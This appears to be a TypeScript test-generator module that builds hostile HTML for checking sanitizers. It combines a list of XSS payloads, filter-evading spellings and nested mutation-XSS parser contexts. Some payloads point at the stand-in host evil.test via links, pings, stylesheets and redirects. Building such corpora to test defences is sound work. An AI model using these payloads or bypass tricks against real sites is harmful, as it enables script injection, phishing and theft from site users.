import type { Case } from './product.ts'

/**
 * Hostile HTML from parts: a payload, its spelling, and two nested contexts around it. Nested contexts can make a
 * parser read a text differently the second time (mutation XSS), although the first result was harmless.
 */

/** Payloads that run code, phish, cover the page, or shadow names that scripts look up. All that run set `__pwn`. */
export const CARRIERS = [
  '<script>__pwn=1</script>',
  '<img src=x onerror=__pwn=1>',
  '<img/src/onerror=__pwn=1>',
  '<svg onload=__pwn=1></svg>',
  '<svg><script>__pwn=1</script></svg>',
  '<svg><animate onbegin=__pwn=1 attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:__pwn=1></svg>',
  '<svg><a xlink:href="javascript:__pwn=1"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__pwn=1></svg>#x"></use></svg>',
  '<math href="javascript:__pwn=1">x</math>',
  '<math><maction actiontype="statusline#http://evil.test">x</maction></math>',
  '<a href="javascript:__pwn=1">x</a>',
  '<a href="vbscript:__pwn=1">x</a>',
  '<a href="data:text/html,<script>__pwn=1</script>">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="//evil.test/" ping="https://evil.test/" target="_top">x</a>',
  '<a href="#/withdrawal?amount=100">x</a>',
  '<img src="javascript:__pwn=1">',
  '<img src="http://evil.test/a.gif" srcset="http://evil.test/b.gif 2x">',
  '<iframe src="javascript:parent.__pwn=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<object data="javascript:__pwn=1"></object>',
  '<embed src="javascript:__pwn=1">',
  '<form action="https://evil.test/"><input name="password" autofocus onfocus=__pwn=1></form>',
  '<button form=f formaction="javascript:__pwn=1">x</button>',
  '<select autofocus onfocus=__pwn=1><option>x</option></select>',
  '<textarea autofocus onfocus=__pwn=1>x</textarea>',
  '<keygen autofocus onfocus=__pwn=1>',
  '<details open ontoggle=__pwn=1>x</details>',
  '<dialog open onclose=__pwn=1>x</dialog>',
  '<marquee onstart=__pwn=1>x</marquee>',
  '<video src=x onerror=__pwn=1><source onerror=__pwn=1></video>',
  '<audio src=x onerror=__pwn=1></audio>',
  '<body onload=__pwn=1 onpageshow=__pwn=1>',
  '<div onpointerenter=__pwn=1 onanimationstart=__pwn=1 style="animation:x 1s">x</div>',
  '<div style="position:fixed;inset:0;background:url(http://evil.test/c)">x</div>',
  '<style>*{display:none;background:url(http://evil.test/d)}</style>',
  '<link rel=stylesheet href="http://evil.test/e.css">',
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<base href="http://evil.test/">',
  '<p id=root name=location class=topbar>x</p>',
  '<img name=getElementById><a id=attributes></a><a id=attributes name=length>x</a>',
  '<x-boat is=boat slot=x part=x onclick=__pwn=1>x</x-boat>',
  '<p contenteditable tabindex=1 accesskey=x data-x=x aria-label=x draggable=true>x</p>',
] as const

const swapCase = (html: string) =>
  html.replace(/[a-z]/gi, (letter, at: number) =>
    at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase(),
  )
const inTags = (html: string, change: (tag: string) => string) => html.replace(/<[a-z][^<>]*>/gi, change)

/** Spellings that a text filter might overlook. */
export const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => swapCase(html).replace(/__PwN|__pWn/gi, '__pwn'),
  (html) => inTags(html, (tag) => tag.replace(/ /g, '/')),
  (html) => inTags(html, (tag) => tag.replace(/ /g, '\n\f\t')),
  (html) => html.replace(/(script|on[a-z])/gi, (word) => `${word.slice(0, 2)}\u0000${word.slice(2)}`),
  (html) => html.replace(/script:/g, '&#x73;cript&colon;'),
  (html) => html.replace(/script:/g, 'scr\tip\nt:'),
  (html) => html.replace(/(href|src|data|action)="/g, '$1="\u0001 '),
  (html) => html.replace(/=([^\s"'>]+)/g, '=`$1`'),
  (html) => inTags(html, (tag) => tag.replace(/^<([a-z]+)/i, '<$1 title="&gt;" ')),
  (html) => html.replace(/>$/, ''),
  (html) => html.replaceAll('<', '<<'),
]

/** Contexts: other namespaces, elements whose content is text, and elements that are never closed. */
export const CONTEXTS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>好</p>${html}<p>的</p>`,
  (html) => `<svg>${html}</svg>`,
  (html) => `<math>${html}</math>`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<svg><desc>${html}</desc><title>${html}</title></svg>`,
  (html) => `<math><mtext><table><mglyph><style>${html}</style></mglyph></table></mtext></math>`,
  (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  (html) => `<math><mtext><mglyph><svg><mtext><style>${html}</style></mtext></svg></mglyph></mtext></math>`,
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html) => `<svg></p><style><a title="</style>${html}">`,
  (html) => `<svg><style><!--</style>${html}--></svg>`,
  (html) => `<style><style/>${html}</style>`,
  (html) => `<noscript><p title="</noscript>${html}"></noscript>`,
  (html) => `<title><p title="</title>${html}"></title>`,
  (html) => `<textarea><p title="</textarea>${html}"></textarea>`,
  (html) => `<xmp><p title="</xmp>${html}"></xmp>`,
  (html) => `<noembed><p title="</noembed>${html}"></noembed>`,
  (html) => `<iframe><p title="</iframe>${html}"></iframe>`,
  (html) => `<template>${html}</template>`,
  (html) => `<table><tr>${html}<td>x</td></tr></table>`,
  (html) => `<select><option>${html}</option></select>`,
  (html) => `<!--><${html}-->`,
  (html) => `<!-- --!>${html}-->`,
  (html) => `<![CDATA[${html}]]>`,
  (html) => `<svg><![CDATA[</svg>${html}]]></svg>`,
  (html) => `<?xml ${html}?>`,
  (html) => `<p title="${html.replaceAll('"', '&quot;')}">x</p>`,
  (html) => `<a href='x" title="${html}'>x</a>`,
  (html) => `<b><i><p>${html}</b></i>`,
  (html) => `<table><caption><svg><title>${html}</title></svg></caption></table>`,
  (html) => `${'<div>'.repeat(60)}${html}`,
]

export const HTML_PARTS = [CONTEXTS, CONTEXTS, CARRIERS, SPELLINGS] as const

export const htmlOf = ([outer, inner, carrier, spell]: Case<typeof HTML_PARTS>): string =>
  outer(inner(spell(carrier)))
